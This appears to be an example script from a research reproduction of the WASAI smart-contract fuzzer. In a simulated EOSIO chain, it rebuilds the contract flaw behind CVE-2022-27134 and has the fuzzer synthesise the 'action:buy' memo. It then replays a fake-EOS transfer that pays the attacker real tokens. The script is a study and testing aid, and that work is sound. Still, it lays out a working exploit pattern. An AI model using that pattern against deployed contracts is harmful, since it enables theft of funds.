@@ -1,0 +1,99 @@
+#!/usr/bin/env python3
+"""Case study: the batdappboomx zero-day (CVE-2022-27134).
+
+§4.4 of the paper: "anyone can activate the eosponser of batdappboomx
+directly with a fake EOS.  Thus attackers can receive the reward from
+batdappboomx as long as they set the parameter memo as 'action:buy'."
+
+This script rebuilds that bug shape — a Fake-EOS-vulnerable contract
+whose reward path additionally requires a magic memo — and shows the
+two halves of WASAI's result:
+
+1. the concolic engine *synthesises* the magic memo byte-by-byte from
+   flipped branch constraints (no dictionary), and
+2. the resulting payload is a working exploit: the attacker extracts
+   real EOS from the contract while paying only counterfeit tokens.
+
+Run:  python examples/cve_2022_27134.py
+"""
+
+import random
+
+from repro import ContractConfig, generate_contract
+from repro.engine import WasaiFuzzer, deploy_target, setup_chain
+from repro.eosio import Asset, Encoder, N, issue_to, token_balance
+from repro.scanner import scan_report
+
+MAGIC_MEMO = b"action:buy"
+
+
+def main() -> None:
+    config = ContractConfig(
+        account="batdappboomx",
+        seed=2022,
+        fake_eos_guard=False,        # the CVE: no token-issuer check
+        reward_scheme="inline",
+        memo_guard=MAGIC_MEMO,       # reward only for 'action:buy'
+    )
+    contract = generate_contract(config)
+    chain = setup_chain()
+    target = deploy_target(chain, "batdappboomx", contract.module,
+                           contract.abi)
+    issue_to(chain, "eosio.token", "batdappboomx", "1000.0000 EOS")
+
+    print("fuzzing batdappboomx (60 virtual seconds)...")
+    fuzzer = WasaiFuzzer(chain, target, rng=random.Random(2022),
+                         timeout_ms=60_000)
+    report = fuzzer.run()
+    scan = scan_report(report, target)
+    print(f"verdict: {scan.detected_types()}")
+
+    # Find the synthesised exploit payload among the observations.
+    exploit = None
+    for obs in report.observations:
+        if obs.payload_kind != "fake_token" or not obs.success:
+            continue
+        memo = obs.executed_params[3]
+        memo_bytes = memo if isinstance(memo, bytes) else memo.encode()
+        rewarded = any(c.api == "send_inline"
+                       for c in obs.record.host_calls)
+        if memo_bytes.startswith(MAGIC_MEMO) and rewarded:
+            exploit = obs
+            break
+    assert exploit is not None, "WASAI did not synthesise the payload"
+    print("\nsynthesised exploit payload (via constraint flipping):")
+    print(f"  transfer@fake.token from={exploit.executed_params[0]} "
+          f"to={exploit.executed_params[1]}")
+    print(f"  quantity={exploit.executed_params[2]}  "
+          f"memo={exploit.executed_params[3]!r}")
+
+    # Replay the exploit on a fresh chain and show the theft.
+    print("\nreplaying the exploit end-to-end:")
+    chain2 = setup_chain()
+    deploy_target(chain2, "batdappboomx", contract.module, contract.abi)
+    issue_to(chain2, "eosio.token", "batdappboomx", "1000.0000 EOS")
+    from repro.eosio.token import deploy_token
+    deploy_token(chain2, "fake.token")
+    issue_to(chain2, "fake.token", "attacker", "100000.0000 EOS")
+
+    def eos(owner):
+        return token_balance(chain2, "eosio.token", owner)
+
+    before = eos("attacker")
+    quantity = exploit.executed_params[2]
+    memo = exploit.executed_params[3]
+    data = (Encoder().name("attacker").name("batdappboomx")
+            .asset(quantity).string(memo).bytes())
+    result = chain2.push_action("fake.token", "transfer",
+                                ["attacker"], data)
+    after = eos("attacker")
+    print(f"  attacker real-EOS balance: {before} -> {after}")
+    print(f"  victim paid out:           "
+          f"{Asset(after.amount - before.amount)}")
+    assert result.success and after > before, "exploit did not pay"
+    print("\nthe attacker received real EOS for counterfeit tokens "
+          "(CVE-2022-27134 shape).")
+
+
+if __name__ == "__main__":
+    main()
